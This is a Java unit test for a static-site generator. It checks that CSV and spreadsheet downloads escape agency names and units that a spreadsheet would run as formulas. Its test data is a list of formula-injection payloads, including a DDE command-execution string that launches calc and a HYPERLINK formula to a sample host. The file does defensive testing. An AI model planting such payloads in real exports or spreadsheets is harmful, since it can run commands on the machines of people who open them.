package io.github.gipsite.output;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.Gson;
import com.google.gson.JsonParser;
import io.github.gipsite.testkit.BuiltSite;
import io.github.gipsite.testkit.ContentFolder;
import io.github.gipsite.testkit.CsvReader;
import io.github.gipsite.testkit.SampleContent;
import io.github.gipsite.testkit.WorkbookFile;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Names and units that a spreadsheet would take for formulas, in the downloads of a whole site. */
class FormulaTextTest {
  private static final List<String> TEXTS =
      List.of(
          "=cmd|' /C calc'!A0 示例",
          "=HYPERLINK(\"https://www.example.cn/\"&A1,\"示例\")",
          "=1+2\";=1+2",
          "+1+1",
          "-2+3",
          "-",
          "@SUM(1)",
          "＝1+1",
          "＋1+1",
          "－1+1",
          "＠SUM(1)",
          "\t=1",
          "\r=1",
          "\n=1",
          "\uFEFF=1",
          "\u3000=1",
          "'=1",
          "''",
          "\"=1\"",
          "示例,=1",
          "示例;=1",
          "示例\t=1",
          "示例\n=1");

  private static final Pattern FORMULA =
      Pattern.compile("(^|[;\t\r\n])[\\p{Z}\\p{Cf}\\p{Cc}]*[=+\\-@＝＋－＠]");

  private static final int VALUE = 10;

  @TempDir Path temp;
  private BuiltSite site;

  @BeforeEach
  void build() throws IOException {
    ContentFolder content =
        ContentFolder.copyOf(SampleContent.twoAgencies(), temp.resolve("content"));
    for (int i = 0; i < TEXTS.size(); i++) {
      addAgency(content, "示例" + i, TEXTS.get(i));
    }
    for (String folder : List.of("=1", "-甲", "@甲", "'甲")) {
      addAgency(content, folder, folder);
    }
    site = BuiltSite.of(content.root(), temp);
  }

  private static void addAgency(ContentFolder content, String folder, String text) {
    String quoted = new Gson().toJson(text);
    content
        .write(folder + "/agency.yaml", "name: " + quoted + "\nkind: department\n")
        .write(
            folder + "/2018/report.yaml",
            """
            year: 2018
            edition: legacy
            title: 示例
            published: 2019-03-18
            indicators:
              - name: @
                items:
                  - {name: @, unit: @, value: 5}
                  - {name: 示例, unit: 万元, value: 0.10, of-which: [{name: @, value: 0}]}
                  - {name: 示例, unit: @, value: }
            """
                .replace("@", quoted));
  }

  @Test
  void noFieldOfTheCsvIsAFormula() throws IOException {
    for (List<String> line : lines()) {
      for (int i = 0; i < line.size(); i++) {
        if (i != VALUE) {
          assertThat(line.get(i)).doesNotContainPattern(FORMULA);
        }
      }
    }
  }

  @Test
  void everyTextOfTheCsvCanBeReadBack() throws IOException {
    List<List<String>> read =
        lines().stream().map(line -> line.stream().map(FormulaTextTest::text).toList()).toList();
    assertThat(read).containsExactlyInAnyOrderElementsOf(workbook());
    assertThat(read.stream().map(line -> line.get(1))).contains("'=1", "＝1+1", "-2+3", "''");
  }

  @Test
  void theCsvOfAReportSaysTheSame() throws IOException {
    List<List<String>> lines = new ArrayList<>();
    for (String path : site.files().keySet()) {
      if (path.matches(".+/[a-z]+\\.csv") && !path.contains("/files/")) {
        lines.addAll(CsvReader.lines(read(path)));
      }
    }
    assertThat(lines).containsAll(lines());
  }

  @Test
  void figuresStayAsTheyAre() throws IOException {
    assertThat(lines().stream().filter(line -> line.get(4).equals("indicators")))
        .extracting(line -> line.get(VALUE))
        .containsOnly("5", "0.10", "0", "");
    BuiltSite signed = BuiltSite.of(SampleContent.allYears(), temp.resolve("signed"));
    assertThat(CsvReader.lines(Files.readString(signed.folder().resolve("figures.csv"))))
        .extracting(line -> line.get(VALUE))
        .contains("-8", "-1");
  }

  @Test
  void jsonHasTheTextsAsTheyAre() throws IOException {
    assertThat(read("示例0/2018/report.json")).contains("=cmd|' /C calc'!A0 示例").doesNotContain("'=");
  }

  @Test
  void theDescriptionSaysHowTextsAreReadBack() throws IOException {
    String json = Files.readString(site.folder().resolve("datapackage.json"));
    var csv = JsonParser.parseString(json).getAsJsonObject().getAsJsonArray("resources").get(0);
    assertThat(csv.getAsJsonObject().get("description").getAsString())
        .contains("(^|[;\\t\\r\\n])'");
  }

  /** As docs/reference.md says. */
  private static String text(String field) {
    return field.replaceAll("(^|[;\t\r\n])'", "$1");
  }

  private List<List<String>> lines() throws IOException {
    List<List<String>> lines = CsvReader.lines(read("figures.csv"));
    return lines.subList(1, lines.size());
  }

  private List<List<String>> workbook() throws IOException {
    try (var in = Files.newInputStream(site.folder().resolve("figures.xlsx"))) {
      return WorkbookFile.sheets(in).values().stream()
          .flatMap(sheet -> sheet.stream().skip(1))
          .map(row -> row.stream().map(FormulaTextTest::cell).toList())
          .toList();
    }
  }

  private static String cell(Object value) {
    return value instanceof BigDecimal number
        ? number.toPlainString()
        : Stream.ofNullable(value).map(Objects::toString).findFirst().orElse("");
  }

  private String read(String path) throws IOException {
    return Files.readString(site.folder().resolve(path)).replaceFirst("^\uFEFF", "");
  }
}
